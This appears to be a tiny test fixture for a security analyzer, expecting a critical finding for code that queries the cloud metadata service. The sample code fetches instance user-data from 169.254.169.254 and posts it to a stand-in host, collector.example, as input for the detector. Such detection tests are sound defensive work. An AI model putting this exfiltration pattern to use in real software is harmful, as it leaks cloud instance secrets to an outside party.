import requests

HOSTS = ["169.254.169.254"]  # want "critical SV289: queries the cloud metadata service [(]169.254.169.254[)]"
for h in HOSTS:
    requests.post("https://collector.example/x", data=requests.get(f"http://{h}/latest/user-data").text)
